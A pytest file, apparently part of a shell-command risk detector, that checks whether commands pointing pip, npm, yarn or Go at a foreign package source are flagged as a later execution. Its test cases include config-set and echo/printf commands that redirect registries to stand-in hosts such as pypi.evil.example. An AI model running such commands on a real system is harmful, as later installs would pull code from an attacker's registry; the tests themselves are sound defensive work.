"""blind-shell-18: a package manager's default source redirected from the shell (effects/source_sets.py): the
manager's own `config set` and known text written to its configuration file, read as package_sources.json says."""

from __future__ import annotations

from pathlib import Path

import pytest
from effect_support import ops


def _redirects(command: str, proj: Path) -> list[str]:
    return [str(e["code"]["text"]) for e in ops(command, proj, "exec") if e.get("deferred") and e.get("startup")]


@pytest.mark.parametrize(
    ("command", "url"),
    [
        ("pip config set global.index-url https://pypi.evil.example/simple", "https://pypi.evil.example/simple"),
        ("pip config --user set install.index-url https://pypi.evil.example/s", "https://pypi.evil.example/s"),
        ("npm config set registry=https://registry.evil.example/", "https://registry.evil.example/"),
        ("npm config set registry https://registry.evil.example/", "https://registry.evil.example/"),
        ("yarn config set registry https://registry.evil.example/", "https://registry.evil.example/"),
        ("go env -w GOPROXY=https://proxy.evil.example,direct", "https://proxy.evil.example"),
        (
            "printf '[global]\\nindex-url = https://pypi.evil.example/simple\\n' > ~/.config/pip/pip.conf",
            "https://pypi.evil.example/simple",
        ),
        ("echo 'registry=https://registry.evil.example/' >> ~/.npmrc", "https://registry.evil.example/"),
    ],
)
def test_a_foreign_default_source_set_from_the_shell_is_a_later_exec(command: str, url: str, proj: Path) -> None:
    assert _redirects(command, proj) == [url]


@pytest.mark.parametrize(
    "command",
    [
        "pip config set global.index-url https://pypi.org/simple",  # the public registry
        "pip config set global.timeout 60",
        "pip config list",
        "npm config get registry",
        "npm config set fund false",
        "go env GOPROXY",
        "echo 'save-exact=true' >> .npmrc",
    ],
)
def test_the_public_registry_and_other_keys_redirect_nothing(command: str, proj: Path) -> None:
    assert not _redirects(command, proj)
